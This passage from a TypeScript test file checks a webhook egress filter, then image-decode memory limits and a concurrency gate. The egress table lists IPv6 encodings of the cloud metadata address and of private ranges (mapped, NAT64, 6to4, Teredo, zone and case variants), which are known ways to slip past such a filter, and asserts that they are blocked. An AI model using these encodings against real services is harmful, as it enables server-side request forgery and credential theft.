        ['fe80::1', 'never', 'never'],
        ['0.0.0.0', 'never', 'never'],
        ['127.0.0.1', 'internal', 'internal'],
        ['::ffff:127.0.0.1', 'internal', 'internal'],
        ['::1', 'internal', 'reach'],
        ['10.1.2.3', 'internal', 'reach'],
        ['10.2.0.1', 'internal', 'internal'],
        ['192.168.1.1', 'internal', 'internal'],
        ['172.20.0.1', 'internal', 'internal'],
        ['fd12::1', 'internal', 'internal'],
        ['93.184.216.34', 'reach', 'reach'],
        ['2606:4700::1111', 'reach', 'reach'],
        ['not an address', 'never', 'never'],
        // IPv6 carrying an IPv4 address: judged as that address too
        ['::a9fe:a9fe', 'never', 'never'],
        ['::ffff:0:a9fe:a9fe', 'never', 'never'],
        ['64:ff9b::a9fe:a9fe', 'never', 'never'],
        ['2002:a9fe:a9fe::1', 'never', 'never'],
        ['2001:0:4136:e378:8000:63bf:5601:5601', 'never', 'never'],
        ['64:ff9b::a01:203', 'internal', 'internal'],
        ['::8.8.8.8', 'reach', 'reach'],
        ['::ffff:0:169.254.169.254', 'never', 'never'],
        ['::ffff:0:10.1.2.3', 'internal', 'reach'],
        ['2002:a01:203::1', 'internal', 'internal'], // 6to4 itself is internal, whatever it carries
        ['2001:0:4136:e378:8000:63bf:f7f7:f7f7', 'internal', 'internal'], // Teredo, client 8.8.8.8
        // zones, capitals and a dotted tail do not change the address
        ['fe80::1%eth0', 'never', 'never'],
        ['::1%lo', 'internal', 'reach'],
        ['2002:a9fe:a9fe::%br-1.2', 'never', 'never'],
        ['FE80::1', 'never', 'never'],
        ['::FFFF:A9FE:A9FE', 'never', 'never'],
        ['64:FF9B::A9FE:A9FE', 'never', 'never'],
        ['::0.0.0.1', 'internal', 'reach'], // that is ::1
        ['::ffff:999.1.1.1', 'never', 'never'], // not an address
        // each range's edges
        ['100.100.100.200', 'never', 'never'], // a metadata service inside the shared range
        ['100.64.0.0', 'internal', 'internal'],
        ['100.127.255.255', 'internal', 'internal'],
        ['100.128.0.0', 'reach', 'reach'],
        ['172.15.255.255', 'reach', 'reach'],
        ['172.31.255.255', 'internal', 'internal'],
        ['192.0.0.255', 'internal', 'internal'],
        ['192.0.2.1', 'reach', 'reach'], // documentation ranges are reached
        ['198.19.255.255', 'internal', 'internal'],
        ['239.255.255.255', 'never', 'never'],
        ['240.0.0.1', 'never', 'never'],
        ['255.255.255.255', 'never', 'never'],
        ['fd00:ec2::254', 'never', 'never'],
        ['fec0::1', 'reach', 'reach'],
        ['febf:ffff::1', 'never', 'never'],
        ['fbff:ffff::1', 'reach', 'reach'],
        ['64:ff9b::1:0:0', 'reach', 'reach'],
      ];
      for (const [address, without, withAllow] of cases) {
        assert.equal(none.judge(address), without, address);
        assert.equal(some.judge(address), withAllow, `${address} allowed`);
      }
      // an IPv6 range allows the IPv4 addresses whose mapped form it holds
      const mapped = new Egress(parseCidrList('x', '::ffff:10.0.0.0/104').ranges);
      assert.equal(mapped.judge('10.2.0.1'), 'reach');
      assert.equal(mapped.judge('127.0.0.1'), 'internal');
      const { loadConfig, ConfigError } = await import('../src/config.js');
      assert.throws(() => loadConfig({}, { PRODGRAPH_WEBHOOK_ALLOW: '10.0.0.0/33' }), ConfigError);
      assert.throws(() => loadConfig({}, { PRODGRAPH_WEBHOOK_ALLOW: 'intranet' }), ConfigError);
    });
  });

  describe(`image decodes are bounded in memory and in number [${dialect}]`, () => {
    let env: TestEnv;
    let token: string;

    before(async () => {
      env = await createEnv(dialect, { PRODGRAPH_MAX_DECODE_MB: '16' });
      await env.import(smallProduction('decode'));
      token = await env.mint({ production: 'decode', scopes: ['read', 'write'] });
      const events = ['a', 'b'].map((n) => ({
        event_type: 'create',
        path: `plates/${n}.exr`,
        source: 'scan',
        dedupe_key: `k-${n}`,
        detected_at: '2026-03-01T11:00:00Z',
      }));
      const r = await call(env.app, 'POST', '/api/v1/storage/events', {
        token,
        body: { filespace: 'decode-fs', events },
      });
      assert.equal(r.body.accepted, 2, r.text);
    });
    after(() => env.close());

    const gradient = (progressive: boolean) => {
      const tile = Buffer.alloc(16 * 16 * 3);
      for (let i = 0; i < 256; i++) tile.set([i, 255 - i, (i * 7) % 256], i * 3);
      return sharp(tile, { raw: { width: 16, height: 16, channels: 3 } })
        .resize(3000, 3000, { kernel: 'linear' })
        .jpeg({ quality: 70, progressive, chromaSubsampling: '4:2:0' })
        .toBuffer();
    };
    const proxy = (path: string, bytes: Buffer) =>
      call(env.app, 'POST', '/api/v1/storage/media-proxy', {
        token,
        body: { filespace: 'decode-fs', path, bytes: bytes.toString('base64') },
      });

    it('a progressive JPEG over the decode budget is refused (413) before decoding; a baseline one of the same size is not', async () => {
      const progressive = await proxy('plates/a.exr', await gradient(true));
      assert.equal(progressive.status, 413, progressive.text);
      assert.equal(progressive.body.code, 'too_large');
      assert.match(
        progressive.body.detail,
        /^bytes: .*about 26 MB to decode, more than the 16 MB .*3000 × 3000 jpeg saved progressive/,
      );
      const baseline = await proxy('plates/b.exr', await gradient(false));
      assert.equal(baseline.status, 200, baseline.text);
    });

    it('decodes take their turn: at most two at once, a short queue, then 503 with Retry-After', async () => {
      const { DecodeGate } = await import('../src/media/decode.js');
      const gate = new DecodeGate(2, 1);
      let running = 0;
      let most = 0;
      const releases: Array<() => void> = [];
      const work = () =>
        gate.run(async () => {
          most = Math.max(most, ++running);
          await new Promise<void>((r) => releases.push(r));
          running--;
        });
      const runs = [work(), work(), work()];
      const refused = await work().then(
        () => null,
        (err: { status: number; headers: Record<string, string> }) => err,
      );
      assert.equal(refused?.status, 503);
      assert.equal(refused?.headers['retry-after'], '2');
      // release one at a time until all three ran (the queued one starts when a slot frees)
      for (let released = 0; released < 3; released++) {
        while (releases.length === 0) await new Promise((r) => setImmediate(r));
        releases.shift()!();
        await new Promise((r) => setImmediate(r));
      }
      await Promise.all(runs);
      assert.equal(most, 2);
    });
  });
}
